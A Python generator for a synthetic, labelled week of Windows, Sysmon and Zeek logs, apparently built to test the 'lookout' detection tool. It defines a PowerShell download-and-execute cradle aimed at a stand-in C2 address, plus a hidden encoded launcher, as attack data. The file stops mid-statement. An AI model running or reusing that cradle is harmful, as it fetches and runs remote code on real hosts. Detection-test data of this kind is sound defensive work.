#!/usr/bin/env python3
"""Generate lookout's labelled demo case (``sample_logs/``).

Synthetic, written for the lookout project (MIT OR Apache-2.0). Deterministic: a fixed seed,
the Python 3.11 standard library only, and one named random stream per component so that a
change in one part does not reshuffle the others. Run it from anywhere:

    python3 sample_logs/generate.py

It (re)writes every log file under ``sample_logs/`` plus ``sample_logs/labels.tsv``.
The week is Mon 2026-03-02 .. Fri 2026-03-06, all times UTC.
"""

from __future__ import annotations

import base64
import hashlib
import json
import os
import random
from datetime import datetime, timedelta, timezone

UTC = timezone.utc
HERE = os.path.dirname(os.path.abspath(__file__))
SEED = 20260302
WEEK_START = datetime(2026, 3, 2, tzinfo=UTC)  # Monday
WEEK_END = datetime(2026, 3, 6, 23, 59, 59, tzinfo=UTC)  # Friday
MON, TUE, WED, THU, FRI = range(5)


def rstream(name: str) -> random.Random:
    """An independent, reproducible random stream for one component."""
    return random.Random(f"lookout-sample-logs/{SEED}/{name}")


def at(day: int, hh: int, mm: int, ss: float = 0.0) -> datetime:
    return WEEK_START + timedelta(days=day, hours=hh, minutes=mm, seconds=ss)


def jitter(rng: random.Random, t: datetime, lo: float, hi: float) -> datetime:
    return t + timedelta(seconds=rng.uniform(lo, hi))


# --------------------------------------------------------------------------------------------
# Environment
# --------------------------------------------------------------------------------------------

DOMAIN = "CORP"
DNS_DOMAIN = "corp.local"
DOMAIN_SID = "S-1-5-21-1004336348-1177238915-682003330"
RID = {"alice": 1104, "bob": 1105, "it_admin": 1106, "svc_backup": 1108,
       "WS01$": 1110, "WS02$": 1111, "FS01$": 1112, "krbtgt": 502}


def sid(account: str) -> str:
    return f"{DOMAIN_SID}-{RID[account]}"


IP = {
    "DC01": "10.0.2.10", "WS01": "10.0.2.21", "WS02": "10.0.2.22", "FS01": "10.0.2.30",
    "BACKUP01": "10.0.2.40", "web01": "10.0.1.10", "admin": "10.0.0.5",
}
ATTACKER = "203.0.113.45"
C2 = "198.51.100.23"

# Benign external destinations (illustrative addresses in large providers' public ranges).
EXT_MS = ["13.107.6.156", "13.107.42.14", "52.96.165.18", "52.113.194.132", "20.190.151.68",
          "40.126.31.73"]
EXT_GOOGLE = ["142.250.185.68", "142.250.186.35", "172.217.16.142", "216.58.212.163"]
EXT_CDN = ["151.101.1.140", "151.101.65.69", "104.18.32.47", "23.55.161.10"]
EXT_WU = ["13.107.4.50", "8.252.47.126", "23.48.201.18"]
DEBIAN_MIRROR = "151.101.194.132"
DNS_FORWARDER = "9.9.9.9"

PS = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
OFFICE = r"C:\Program Files\Microsoft Office\root\Office16"
CHROME = r"C:\Program Files\Google\Chrome\Application\chrome.exe"
TEAMS = r"C:\Program Files\WindowsApps\MSTeams_25031.805.3440.5290_x64__8wekyb3d8bbwe\ms-teams.exe"
EDGEWV = (r"C:\Program Files (x86)\Microsoft\EdgeWebView\Application\133.0.3065.92"
          r"\msedgewebview2.exe")
DEFENDER = r"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.25010.11-0"


def fake_sha256(image: str) -> str:
    """Synthetic but stable SHA256 per image path (not the hash of any real file)."""
    return hashlib.sha256(("lookout-demo:" + image.lower()).encode()).hexdigest().upper()


def ps_enc(script: str) -> str:
    """PowerShell -EncodedCommand: base64 of the UTF-16LE script."""
    return base64.b64encode(script.encode("utf-16-le")).decode()


CRADLE = "IEX (New-Object Net.WebClient).DownloadString('https://198.51.100.23/a')"
CRADLE_B64 = ps_enc(CRADLE)
MALICIOUS_PS = f"powershell.exe -nop -w hidden -enc {CRADLE_B64}"

# --------------------------------------------------------------------------------------------
# Zeek conn.log (filled by every story; written at the end)
# --------------------------------------------------------------------------------------------

ZEEK: list[tuple[datetime, list[str]]] = []
_zrng = rstream("zeek-uid")
_B62 = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"


def _is_local(ip: str) -> str:
    return "T" if ip.startswith("10.") else "F"


def conn(t: datetime, orig: str, oport: int, resp: str, rport: int, proto: str = "tcp",
         service: str = "-", duration: float | None = None, ob: int | None = None,
         rb: int | None = None, state: str = "SF", history: str | None = None,
         opk: int | None = None, rpk: int | None = None) -> None:
    """One Zeek conn.log row (ts = connection start)."""
    uid = "C" + "".join(_zrng.choice(_B62) for _ in range(17))
    # sensor timestamps: a few hundred microseconds of capture jitter, never round numbers
    t = t + timedelta(microseconds=_zrng.randint(1, 900))
    if duration is not None:
        duration += _zrng.uniform(0.000001, 0.000999)
    hdr = 28 if proto == "udp" else 40  # IP + UDP / IP + TCP header bytes per packet
    if history is None:
        history = {"SF": "ShADadfF", "S0": "S", "REJ": "Sr", "RSTO": "ShADadR",
                   "RSTR": "ShADadr", "SH": "ShAF", "OTH": "CC"}.get(state, "ShADadfF")
        if proto == "udp":
            history = "Dd" if state == "SF" else "D"
    if opk is None:
        opk = 1 if ob in (None, 0) else max(1, (ob // 1400) + 3)
    if rpk is None:
        rpk = 0 if rb in (None, 0) and state in ("S0",) else max(1, ((rb or 0) // 1400) + 2)
        if state == "REJ":
            rpk = 1
    if proto == "udp":
        opk = opk if ob else 1
        rpk = 1 if rb else 0
    oib = (ob or 0) + opk * hdr
    rib = (rb or 0) + rpk * hdr
    row = [
        f"{t.timestamp():.6f}", uid, orig, str(oport), resp, str(rport), proto, service,
        "-" if duration is None else f"{duration:.6f}",
        "-" if ob is None else str(ob), "-" if rb is None else str(rb),
        state, _is_local(orig), _is_local(resp), "0", history,
        str(opk), str(oib), str(rpk), str(rib), "(empty)",
    ]
    ZEEK.append((t, row))


# --------------------------------------------------------------------------------------------
# Windows: Security-Datasets / nxlog flat JSON lines
# --------------------------------------------------------------------------------------------

SEC = ("Security", "Microsoft-Windows-Security-Auditing")
SYSMON = ("Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-Sysmon")
SCM = ("System", "Service Control Manager")
W32TIME = ("System", "Microsoft-Windows-Time-Service")
KERNEL_GENERAL = ("System", "Microsoft-Windows-Kernel-General")
WUCLIENT = ("System", "Microsoft-Windows-WindowsUpdateClient")

SEC_TASK = {4624: "12544", 4625: "12544", 4634: "12545", 4647: "12545", 4672: "12548",
            4697: "12289", 4698: "12804", 4724: "13824", 4738: "13824", 4768: "14339",
            4769: "14337", 4771: "14339", 4776: "14336", 4800: "12551", 4801: "12551"}

MESSAGES = {
    4624: "An account was successfully logged on.",
    4625: "An account failed to log on.",
    4634: "An account was logged off.",
    4647: "User initiated logoff:",
    4672: "Special privileges assigned to new logon.",
    4697: "A service was installed in the system.",
    4698: "A scheduled task was created.",
    4724: "An attempt was made to reset an account's password.",
    4738: "A user account was changed.",
    4768: "A Kerberos authentication ticket (TGT) was requested.",
    4769: "A Kerberos service ticket was requested.",
    4771: "Kerberos pre-authentication failed.",
    4776: "The computer attempted to validate the credentials for an account.",
    4800: "The workstation was locked.",
    4801: "The workstation was unlocked.",
}
SYSMON_TITLE = {1: "Process Create:", 3: "Network connection detected:",
                10: "Process accessed:", 11: "File created:",
                12: "Registry object added or deleted:", 13: "Registry value set:",
                26: "File Delete logged:"}


def wtime(t: datetime) -> str:
    return t.strftime("%Y-%m-%d %H:%M:%S.") + f"{t.microsecond // 1000:03d}"


class Proc:
    __slots__ = ("guid", "pid", "image", "cmd", "user", "il", "cwd", "logon_id", "logon_guid")

    def __init__(self, guid, pid, image, cmd, user, il, cwd, logon_id="0x3e7", logon_guid=None):
        self.guid, self.pid, self.image, self.cmd = guid, pid, image, cmd
        self.user, self.il, self.cwd = user, il, cwd
        self.logon_id, self.logon_guid = logon_id, logon_guid


class WinHost:
    def __init__(self, name: str, guid_prefix: str, guid_tail: str, sysmon: bool = True):
        self.name = name
        self.fqdn = f"{name}.{DNS_DOMAIN}"
        self.ip = IP[name]
        self.sysmon = sysmon
        self.prefix = guid_prefix
        self.tail = guid_tail
        self.rng = rstream("win-" + name)
        self.ctr = 0x0100
        self.used_pids: set[int] = set()
        self.events: list[tuple[datetime, int, dict]] = []
        boot = datetime(2026, 2, 28, 3, 10, 4, tzinfo=UTC)  # patched and rebooted Saturday
        self.boot = boot
        sysu = "NT AUTHORITY\\SYSTEM"
        self.system = self._standing(boot, 4, "System", "", sysu)
        self.services = self._standing(boot, 692, r"C:\Windows\System32\services.exe",
                                       r"C:\Windows\system32\services.exe", sysu)
        self.lsass = self._standing(boot, 624, r"C:\Windows\system32\lsass.exe",
                                    r"C:\Windows\system32\lsass.exe", sysu)
        self.winlogon = self._standing(boot, 576, r"C:\Windows\System32\winlogon.exe",
                                       "winlogon.exe", sysu)
        self.svc_dcom = self._standing(boot, 860, r"C:\Windows\System32\svchost.exe",
                                       r"C:\Windows\system32\svchost.exe -k DcomLaunch -p", sysu)
        self.svc_sched = self._standing(boot, 1432, r"C:\Windows\System32\svchost.exe",
                                        r"C:\Windows\system32\svchost.exe -k netsvcs -p -s Schedule",
                                        sysu)
        self.svc_gp = self._standing(boot, 1380, r"C:\Windows\System32\svchost.exe",
                                     r"C:\Windows\system32\svchost.exe -k netsvcs -p -s gpsvc", sysu)
        self.msmpeng = self._standing(boot, 3316, DEFENDER + r"\MsMpEng.exe",
                                      '"' + DEFENDER + r'\MsMpEng.exe"', sysu)
        self.search = self._standing(boot, 5120, r"C:\Windows\System32\SearchIndexer.exe",
                                     r"C:\Windows\system32\SearchIndexer.exe /Embedding", sysu)

    # -- identifiers -------------------------------------------------------------------------
    def guid(self, t: datetime) -> str:
        secs = int(t.timestamp())
        self.ctr += self.rng.randint(1, 6)
        return "{%s-%04x-%04x-%04x-%s}" % (self.prefix, secs & 0xFFFF, secs >> 16,
                                          self.ctr & 0xFFFF, self.tail)

    def new_pid(self) -> int:
        while True:
            p = self.rng.randrange(1200, 14000, 4)
            if p not in self.used_pids:
                self.used_pids.add(p)
                return p

    def logon_id(self) -> str:
        return hex(self.rng.randrange(0x200000, 0x9FFFFF))

    def _standing(self, t, pid, image, cmd, user) -> Proc:
        self.used_pids.add(pid)
        return Proc(self.guid(t), pid, image, cmd, user, "System", r"C:\Windows\system32" + "\\")

    # -- emit --------------------------------------------------------------------------------
    def emit(self, t: datetime, eid: int, chan: tuple[str, str], fields: dict,
             message: str | None = None, task: str | None = None) -> None:
        channel, provider = chan
        if message is None:
            message = SYSMON_TITLE[eid] if channel == SYSMON[0] else MESSAGES[eid]
        if task is None:
            task = str(eid) if channel == SYSMON[0] else SEC_TASK.get(eid, "0")
        rec = {"SourceName": provider, "Channel": channel, "Hostname": self.fqdn,
               "TimeCreated": wtime(t), "EventID": eid, "Task": task, "Message": message}
        rec.update(fields)
        self.events.append((t, len(self.events), rec))

    def sysmon_emit(self, t: datetime, eid: int, fields: dict) -> None:
        if not self.sysmon:
            return
        delay = timedelta(milliseconds=self.rng.randint(2, 40))
        f = {"RuleName": "-", "UtcTime": wtime(t)}
        f.update(fields)
        self.emit(t + delay, eid, SYSMON, f)

    # -- Sysmon helpers ----------------------------------------------------------------------
    def proc(self, t: datetime, image: str, cmd: str, parent: Proc, user: str | None = None,
             il: str | None = None, cwd: str | None = None, pid: int | None = None,
             meta: tuple[str, str, str, str, str] | None = None) -> Proc:
        """Sysmon 1. meta = (FileVersion, Description, Product, Company, OriginalFileName)."""
        user = user or parent.user
        il = il or parent.il
        cwd = cwd or parent.cwd
        if pid is None:
            pid = self.new_pid()
        else:
            self.used_pids.add(pid)
        p = Proc(self.guid(t), pid, image, cmd, user, il, cwd, parent.logon_id, parent.logon_guid)
        base = image.rsplit("\\", 1)[-1]
        if meta is None:
            meta = ("10.0.22621.4830 (WinBuild.160101.0800)", "-", "-", "-", base)
        fv, desc, prod, comp, orig = meta
        self.sysmon_emit(t, 1, {
            "ProcessGuid": p.guid, "ProcessId": str(pid), "Image": image,
            "FileVersion": fv, "Description": desc, "Product": prod, "Company": comp,
            "OriginalFileName": orig, "CommandLine": cmd, "CurrentDirectory": cwd,
            "User": user, "LogonGuid": p.logon_guid or "{%s-0000-0000-e703-000000000000}" % self.prefix,
            "LogonId": p.logon_id, "TerminalSessionId": "0" if user.startswith("NT AUTHORITY") else "1",
            "IntegrityLevel": il, "Hashes": "SHA256=" + fake_sha256(image),
            "ParentProcessGuid": parent.guid, "ParentProcessId": str(parent.pid),
            "ParentImage": parent.image, "ParentCommandLine": parent.cmd, "ParentUser": parent.user,
        })
        return p

    def netconn(self, t: datetime, p: Proc, dst: str, dport: int, sport: int | None = None,
                proto: str = "tcp", dst_host: str = "-", port_name: str = "-") -> int:
        """Sysmon 3 (outbound)."""
        if sport is None:
            sport = self.rng.randint(49700, 65000)
        self.sysmon_emit(t, 3, {
            "ProcessGuid": p.guid, "ProcessId": str(p.pid), "Image": p.image, "User": p.user,
            "Protocol": proto, "Initiated": "true", "SourceIsIpv6": "false", "SourceIp": self.ip,
            "SourceHostname": self.fqdn, "SourcePort": str(sport), "SourcePortName": "-",
            "DestinationIsIpv6": "false", "DestinationIp": dst, "DestinationHostname": dst_host,
            "DestinationPort": str(dport), "DestinationPortName": port_name,
        })
        return sport

    def filecreate(self, t: datetime, p: Proc, path: str) -> None:
        self.sysmon_emit(t, 11, {"ProcessGuid": p.guid, "ProcessId": str(p.pid), "Image": p.image,
                                 "TargetFilename": path, "CreationUtcTime": wtime(t),
                                 "User": p.user})

    def regset(self, t: datetime, p: Proc, key: str, details: str) -> None:
        self.sysmon_emit(t, 13, {"EventType": "SetValue", "ProcessGuid": p.guid,
                                 "ProcessId": str(p.pid), "Image": p.image, "TargetObject": key,
                                 "Details": details, "User": p.user})

    # -- Security helpers --------------------------------------------------------------------
    def logon(self, t: datetime, user: str, ltype: int, src_ip: str = "-", src_port: str = "0",
              workstation: str = "-", package: str = "Negotiate", lproc: str = "User32 ",
              logon_id: str | None = None, domain: str = DOMAIN, elevated: bool = False,
              proc_name: str = r"C:\Windows\System32\svchost.exe", proc_id: str = "0x4b8",
              lm: str = "-", key_len: str = "0") -> str:
        lid = logon_id or self.logon_id()
        local = ltype in (2, 7, 11)
        self.emit(t, 4624, SEC, {
            "SubjectUserSid": "S-1-5-18" if local else "S-1-0-0",
            "SubjectUserName": f"{self.name}$" if local else "-",
            "SubjectDomainName": DOMAIN if local else "-",
            "SubjectLogonId": "0x3e7" if local else "0x0",
            "TargetUserSid": sid(user) if user in RID else "S-1-5-18",
            "TargetUserName": user, "TargetDomainName": domain, "TargetLogonId": lid,
            "LogonType": str(ltype), "LogonProcessName": lproc,
            "AuthenticationPackageName": package, "WorkstationName": workstation,
            "LogonGuid": "{00000000-0000-0000-0000-000000000000}" if package == "NTLM" else
            "{%08x-%04x-%04x-%04x-%012x}" % tuple(self.rng.getrandbits(b) for b in (32, 16, 16, 16, 48)),
            "TransmittedServices": "-", "LmPackageName": lm, "KeyLength": key_len,
            "ProcessId": proc_id if local or ltype == 10 else "0x0",
            "ProcessName": proc_name if local or ltype == 10 else "-",
            "IpAddress": src_ip, "IpPort": src_port, "ImpersonationLevel": "%%1833",
            "ElevatedToken": "%%1842" if elevated else "%%1843",
        })
        return lid

    def logoff(self, t: datetime, user: str, ltype: int, lid: str) -> None:
        self.emit(t, 4634, SEC, {"TargetUserSid": sid(user) if user in RID else "S-1-5-18",
                                 "TargetUserName": user, "TargetDomainName": DOMAIN,
                                 "TargetLogonId": lid, "LogonType": str(ltype)})

    def special_privs(self, t: datetime, user: str, lid: str) -> None:
        self.emit(t, 4672, SEC, {
            "SubjectUserSid": sid(user), "SubjectUserName": user, "SubjectDomainName": DOMAIN,
            "SubjectLogonId": lid,
            "PrivilegeList": "SeSecurityPrivilege\r\n\t\t\tSeBackupPrivilege\r\n\t\t\tSeRestorePrivilege"
                             "\r\n\t\t\tSeTakeOwnershipPrivilege\r\n\t\t\tSeDebugPrivilege"
                             "\r\n\t\t\tSeSystemEnvironmentPrivilege\r\n\t\t\tSeLoadDriverPrivilege"
                             "\r\n\t\t\tSeImpersonatePrivilege",
        })

    def write(self, path: str) -> int:
        self.events.sort(key=lambda e: (e[0], e[1]))
        # Sort key is the real time; TimeCreated may trail UtcTime by a few ms for Sysmon, so
        # re-sort by the rendered TimeCreated to keep every file monotonic.
        self.events.sort(key=lambda e: (e[2]["TimeCreated"], e[1]))
        with open(path, "w", encoding="utf-8", newline="\n") as fh:
            for _, _, rec in self.events:
                fh.write(json.dumps(rec, ensure_ascii=False, separators=(",", ":")) + "\n")
        return len(self.events)


WS01 = WinHost("WS01", "8c4e5a1d", "000000000a00")
WS02 = WinHost("WS02", "8c4e6b37", "000000000b00")
FS01 = WinHost("FS01", "8c4e7c52", "000000000c00")
DC01 = WinHost("DC01", "8c4e2f10", "000000000d00", sysmon=False)
WINHOSTS = [WS01, WS02, FS01, DC01]
USER_OF = {"WS01": "alice", "WS02": "bob"}


def user_sid_hku(user: str) -> str:
    return "HKU\\" + sid(user)


# --------------------------------------------------------------------------------------------
# Domain controller helpers (Kerberos / NTLM validation)
# --------------------------------------------------------------------------------------------

def dc_tgt(t: datetime, user: str, src_ip: str, rng: random.Random) -> None:
    DC01.emit(t, 4768, SEC, {
        "TargetUserName": user, "TargetDomainName": DNS_DOMAIN, "TargetSid": sid(user),
        "ServiceName": "krbtgt", "ServiceSid": sid("krbtgt"), "TicketOptions": "0x40810010",
        "Status": "0x0", "TicketEncryptionType": "0x12", "PreAuthType": "2",
        "IpAddress": "::ffff:" + src_ip, "IpPort": str(rng.randint(49700, 65000)),
    })
    conn(t - timedelta(milliseconds=4), src_ip, rng.randint(49700, 65000), IP["DC01"], 88, "tcp",
         "krb_tcp", rng.uniform(0.002, 0.02), rng.randint(1400, 1700), rng.randint(1500, 1800))


def dc_tgs(t: datetime, user: str, service: str, src_ip: str, rng: random.Random) -> None:
    DC01.emit(t, 4769, SEC, {
        "TargetUserName": f"{user}@{DNS_DOMAIN.upper()}", "TargetDomainName": DNS_DOMAIN.upper(),
        "ServiceName": service, "ServiceSid": sid(service) if service in RID else "S-1-5-21-0",
        "TicketOptions": "0x40810000", "TicketEncryptionType": "0x12",
        "IpAddress": "::ffff:" + src_ip, "IpPort": str(rng.randint(49700, 65000)),
        "Status": "0x0", "LogonGuid": "{%08x-%04x-%04x-%04x-%012x}" % tuple(
            rng.getrandbits(b) for b in (32, 16, 16, 16, 48)), "TransmittedServices": "-",
    })


def dc_ntlm(t: datetime, user: str, workstation: str, status: str = "0x0") -> None:
    DC01.emit(t, 4776, SEC, {
        "PackageName": "MICROSOFT_AUTHENTICATION_PACKAGE_V1_0", "TargetUserName": user,
        "Workstation": workstation, "Status": status,
    })


def dc_preauth_failed(t: datetime, user: str, src_ip: str, code: str, rng: random.Random,
                      ) -> None:
    # The real EventData name of the failure code is `Status` (Message: "Failure Code");
    # `FailureCode` repeats it under the name the Message uses, for parsers keyed on that.
    DC01.emit(t, 4771, SEC, {
        "TargetUserName": user, "TargetSid": sid(user),
        "ServiceName": f"krbtgt/{DNS_DOMAIN.upper()}", "TicketOptions": "0x40810010",
        "Status": code, "FailureCode": code, "PreAuthType": "2",
        "IpAddress": "::ffff:" + src_ip, "IpPort": str(rng.randint(49700, 65000)),
    })


# --------------------------------------------------------------------------------------------
# Windows benign background
# --------------------------------------------------------------------------------------------

MS_META = ("10.0.22621.4830 (WinBuild.160101.0800)", "{desc}",
           "Microsoft\u00ae Windows\u00ae Operating System", "Microsoft Corporation", "{orig}")


def msmeta(desc: str, orig: str) -> tuple[str, str, str, str, str]:
    return (MS_META[0], desc, MS_META[2], MS_META[3], orig)


OFFICE_META = {
    "WINWORD.EXE": ("16.0.18429.20158", "Microsoft Word", "Microsoft Office", "Microsoft Corporation", "WinWord.exe"),
    "EXCEL.EXE": ("16.0.18429.20158", "Microsoft Excel", "Microsoft Office", "Microsoft Corporation", "Excel.exe"),
    "OUTLOOK.EXE": ("16.0.18429.20158", "Microsoft Outlook", "Microsoft Outlook", "Microsoft Corporation", "Outlook.exe"),
}
CHROME_META = ("133.0.6943.142", "Google Chrome", "Google Chrome", "Google LLC", "chrome.exe")


class Desk:
    """One interactive day of a user on a workstation: tracks the processes of the session."""

    def __init__(self, host: WinHost, user: str, rng: random.Random):
        self.h, self.user, self.rng = host, user, rng
        self.duser = f"{DOMAIN}\\{user}"
        self.home = f"C:\\Users\\{user}"
        self.explorer: Proc | None = None
        self.outlook: Proc | None = None
        self.chrome: Proc | None = None
        self.lid = ""
        self.logon_guid = ""

    def start(self, t: datetime, ltype: int = 2) -> datetime:
        h, rng, u = self.h, self.rng, self.user
        self.lid = h.logon(t, u, ltype, src_ip="127.0.0.1", workstation=h.name,
                           package="Negotiate" if ltype != 11 else "Negotiate",
                           lproc="User32 ")
        self.logon_guid = "{%s-%04x-%04x-%s-000000000000}" % (
            h.prefix, int(t.timestamp()) & 0xFFFF, int(t.timestamp()) >> 16, self.lid[2:6])
        base = Proc(h.winlogon.guid, h.winlogon.pid, h.winlogon.image, h.winlogon.cmd,
                    h.winlogon.user, "System", r"C:\Windows\system32" + "\\", self.lid,
                    self.logon_guid)
        t += timedelta(seconds=rng.uniform(1.5, 3))
        userinit = h.proc(t, r"C:\Windows\System32\userinit.exe", r"C:\Windows\system32\userinit.exe",
                          base, user=self.duser, il="Medium",
                          meta=msmeta("Userinit Logon Application", "USERINIT.EXE"))
        t += timedelta(seconds=rng.uniform(0.3, 1.0))
        self.explorer = h.proc(t, r"C:\Windows\explorer.exe", r"C:\Windows\Explorer.EXE", userinit,
                               cwd=r"C:\Windows\system32" + "\\",
                               meta=msmeta("Windows Explorer", "EXPLORER.EXE"))
        # GPO logon script (benign PowerShell with -ExecutionPolicy Bypass)
        t += timedelta(seconds=rng.uniform(2, 5))
        gps = h.proc(t, r"C:\Windows\System32\gpscript.exe", "gpscript.exe /Logon", h.svc_gp,
                     user=self.duser, il="Medium", meta=msmeta("Script for Group Policy", "GPSCRIPT.EXE"))
        gps.logon_id, gps.logon_guid = self.lid, self.logon_guid
        t += timedelta(seconds=rng.uniform(0.5, 1.5))
        h.proc(t, PS, f"{PS} -NoProfile -ExecutionPolicy Bypass -File "
                      f"\\\\{DNS_DOMAIN}\\SYSVOL\\{DNS_DOMAIN}\\scripts\\map-drives.ps1",
               gps, meta=msmeta("Windows PowerShell", "PowerShell.EXE"))
        conn(t + timedelta(seconds=0.4), h.ip, rng.randint(49700, 65000), IP["DC01"], 445, "tcp",
             "smb", rng.uniform(0.05, 0.3), rng.randint(2500, 4500), rng.randint(5000, 9000))
        # Startup apps
        t += timedelta(seconds=rng.uniform(4, 9))
        h.proc(t, r"C:\Windows\System32\SecurityHealthSystray.exe",
               r'"C:\Windows\System32\SecurityHealthSystray.exe" ', self.explorer,
               meta=msmeta("Windows Security notification icon", "SecHealthUI.exe"))
        t += timedelta(seconds=rng.uniform(0.5, 2))
        od = f"{self.home}\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe"
        odp = h.proc(t, od, f'"{od}" /background', self.explorer,
                     meta=("25.020.0202.0001", "Microsoft OneDrive", "Microsoft OneDrive",
                           "Microsoft Corporation", "OneDrive.exe"))
        # OneDrive refreshes its own Run key: a benign Run-key write
        h.regset(t + timedelta(seconds=1.2), odp,
                 f"{user_sid_hku(u)}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\OneDrive",
                 f'"{od}" /background')
        self.https(t + timedelta(seconds=2), rng.choice(EXT_MS), odp)
        t += timedelta(seconds=rng.uniform(2, 6))
        teams = h.proc(t, TEAMS, f'"{TEAMS}" msteams:system-initiated', self.explorer,
                       meta=("25031.805.3440.5290", "Microsoft Teams", "Microsoft Teams",
                             "Microsoft Corporation", "ms-teams.exe"))
        t += timedelta(seconds=rng.uniform(1, 3))
        h.proc(t, EDGEWV, f'"{EDGEWV}" --embedded-browser-webview=1 --webview-exe-name=ms-teams.exe '
                          f'--noerrdialogs', teams,
               meta=("133.0.3065.92", "Microsoft Edge WebView2", "Microsoft Edge WebView2",
                     "Microsoft Corporation", "msedgewebview2.exe"))
        self.https(t + timedelta(seconds=1), rng.choice(EXT_MS), teams)
        t += timedelta(seconds=rng.uniform(20, 90))
        self.outlook = h.proc(t, f"{OFFICE}\\OUTLOOK.EXE", f'"{OFFICE}\\OUTLOOK.EXE" ', self.explorer,
                              meta=OFFICE_META["OUTLOOK.EXE"])
        self.https(t + timedelta(seconds=2), "52.96.165.18", self.outlook)
        t += timedelta(seconds=rng.uniform(30, 240))
        self.chrome = h.proc(t, CHROME, f'"{CHROME}" ', self.explorer, meta=CHROME_META)
        for i in range(rng.randint(1, 2)):
            t += timedelta(seconds=rng.uniform(0.2, 0.8))
            typ = ["gpu-process", "utility --utility-sub-type=network.mojom.NetworkService",
                   "renderer"][i]
            h.proc(t, CHROME, f'"{CHROME}" --type={typ} --lang=en-US --mojo-platform-channel-handle='
                              f'{rng.randint(1800, 4800)} /prefetch:{i + 1}', self.chrome,
                   meta=CHROME_META)
        self.https(t + timedelta(seconds=1), rng.choice(EXT_GOOGLE), self.chrome)
        return t

    def https(self, t: datetime, dst: str, p: Proc, log_sysmon: bool = True) -> None:
        h, rng = self.h, self.rng
        # a DNS lookup first, then the TLS connection
        conn(t - timedelta(milliseconds=rng.randint(8, 40)), h.ip, rng.randint(49700, 65000),
             IP["DC01"], 53, "udp", "dns", rng.uniform(0.001, 0.03), rng.randint(30, 60),
             rng.randint(60, 220))
        sport = h.netconn(t, p, dst, 443, port_name="https") if log_sysmon else rng.randint(49700, 65000)
        conn(t, h.ip, sport, dst, 443, "tcp", "ssl", rng.uniform(0.3, 180), rng.randint(900, 40000),
             rng.randint(3000, 900000))

    def activity(self, t0: datetime, t1: datetime, n: int) -> None:
        """n ordinary actions between t0 and t1."""
        h, rng, u = self.h, self.rng, self.user
        docs = {"alice": ["Finance\\Q1-forecast.xlsx", "Finance\\supplier-invoices-feb.xlsx",
                          "Projects\\board-summary.docx", "Projects\\vendor-contract-v3.docx"],
                "bob": ["Sales\\pipeline-march.xlsx", "Sales\\customer-visit-notes.docx",
                        "Ops\\shipping-rates-2026.xlsx", "Ops\\warehouse-checklist.docx"]}[u]
        times = sorted(t0 + timedelta(seconds=rng.uniform(0, (t1 - t0).total_seconds()))
                       for _ in range(n))
        for t in times:
            k = rng.random()
            if k < 0.22:
                h.proc(t, CHROME, f'"{CHROME}" --type=renderer --lang=en-US --renderer-client-id='
                                  f'{rng.randint(8, 90)} --mojo-platform-channel-handle='
                                  f'{rng.randint(1800, 6000)} /prefetch:1', self.chrome, meta=CHROME_META)
                self.https(t + timedelta(seconds=0.5), rng.choice(EXT_GOOGLE + EXT_CDN), self.chrome,
                           log_sysmon=rng.random() < 0.3)
            elif k < 0.40:
                doc = rng.choice(docs)
                exe = "EXCEL.EXE" if doc.endswith("xlsx") else "WINWORD.EXE"
                path = f"{self.home}\\OneDrive - Corp\\{doc}"
                extra = ' /n' if exe == "WINWORD.EXE" else ''
                h.proc(t, f"{OFFICE}\\{exe}", f'"{OFFICE}\\{exe}"{extra} "{path}"', self.explorer,
                       meta=OFFICE_META[exe])
            elif k < 0.50:
                h.proc(t, r"C:\Windows\System32\RuntimeBroker.exe",
                       r"C:\Windows\System32\RuntimeBroker.exe -Embedding", h.svc_dcom,
                       user=self.duser, il="Medium", meta=msmeta("Runtime Broker", "RuntimeBroker.exe"))
            elif k < 0.58:
                h.proc(t, r"C:\Windows\System32\SearchProtocolHost.exe",
                       r'"C:\Windows\system32\SearchProtocolHost.exe" Global\UsGthrFltPipeMssGthrPipe'
                       f'{rng.randint(2, 40)}_ Global\\UsGthrCtrlFltPipeMssGthrPipe{rng.randint(2, 40)} 1 '
                       r'-2147483646 "Software\Microsoft\Windows Search" "Mozilla/4.0 (compatible; MSIE '
                       r'6.0; Windows NT; MS Search 4.0 Robot)" "C:\ProgramData\Microsoft\Search\Data'
                       r'\Temp\usgthrsvc" "DownLevelDaemon" ', h.search,
                       meta=msmeta("Microsoft Windows Search Protocol Host", "SearchProtocolHost.exe"))
            elif k < 0.66:
                h.proc(t, r"C:\Windows\System32\taskhostw.exe", "taskhostw.exe", h.svc_sched,
                       user=self.duser, il="Medium", meta=msmeta("Host Process for Windows Tasks",
                                                                 "taskhostw.exe"))
            elif k < 0.72:
                h.proc(t, r"C:\Windows\System32\wbem\WmiPrvSE.exe",
                       r"C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding", h.svc_dcom,
                       user="NT AUTHORITY\\NETWORK SERVICE", il="System",
                       meta=msmeta("WMI Provider Host", "Wmiprvse.exe"))
            elif k < 0.78:
                h.proc(t, DEFENDER + r"\MpCmdRun.exe",
                       f'"{DEFENDER}\\MpCmdRun.exe" -IdleTask -TaskName WdCacheMaintenance',
                       h.svc_sched, user="NT AUTHORITY\\SYSTEM", il="System",
                       meta=("4.18.25010.11", "Microsoft Malware Protection Command Line Utility",
                             "Microsoft\u00ae Windows\u00ae Operating System", "Microsoft Corporation",
                             "MpCmdRun.exe"))
            elif k < 0.84:
                h.proc(t, r"C:\Windows\System32\notepad.exe",
                       f'"C:\\Windows\\system32\\NOTEPAD.EXE" {self.home}\\Desktop\\todo.txt',
                       self.explorer, meta=msmeta("Notepad", "NOTEPAD.EXE"))
            elif k < 0.90:
                up = r"C:\Program Files (x86)\Google\GoogleUpdater\133.0.6876.0\updater.exe"
                h.proc(t, up, f'"{up}" --wake --system', h.svc_sched, user="NT AUTHORITY\\SYSTEM",
                       il="System", meta=("133.0.6876.0", "GoogleUpdater", "GoogleUpdater",
                                          "Google LLC", "updater.exe"))
                self.https(t + timedelta(seconds=1), rng.choice(EXT_GOOGLE), self.chrome,
                           log_sysmon=False)
            elif k < 0.95:
                self.https(t, rng.choice(EXT_MS), self.outlook)
            else:
                # SMB to the file server (mapped drive)
                conn(t, h.ip, rng.randint(49700, 65000), IP["FS01"], 445, "tcp", "smb",
